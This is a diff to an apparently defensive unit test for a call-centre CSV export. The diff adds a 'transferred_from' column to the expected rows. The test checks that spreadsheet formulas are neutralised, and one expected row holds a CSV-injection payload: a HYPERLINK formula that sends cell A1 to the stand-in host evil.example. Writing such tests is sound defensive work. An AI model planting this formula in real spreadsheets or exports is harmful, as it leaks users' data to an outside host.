@@ -138,12 +138,12 @@ async def test_calls_csv_neutralises_formulas_and_writes_booleans_in_lower_case(
         "call_id,direction,disposition,caller,client_number,queue,operator,operator_name,rung_operators,started_at,"
         "answered_at,"
         "ended_at,ring_seconds,talk_seconds,hangup_side,recording,incomplete,source,surveyed,callback_call_id,"
-        "callback_at,callback_after_seconds\r\n"
+        "callback_at,callback_after_seconds,transferred_from\r\n"
         'K1,inbound,answered,"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")",+79161234567,sales,7001,'
         f"{NAME_CELL},7001,2026-11-20T10:00:00+00:00,2026-11-20T10:00:05+00:00,2026-11-20T10:02:05+00:00,5.0,120.0,operator,,"
-        "true,ami,true,,,\r\n"
+        "true,ami,true,,,,\r\n"
         "K2,inbound,missed,'@SUM(1+1),-3.5,sales,,,7002,2026-11-20T11:00:00+00:00,,2026-11-20T11:00:20+00:00,"
-        "20.0,,,,false,ami,false,,,\r\n"
+        "20.0,,,,false,ami,false,,,,\r\n"
     )
 
 
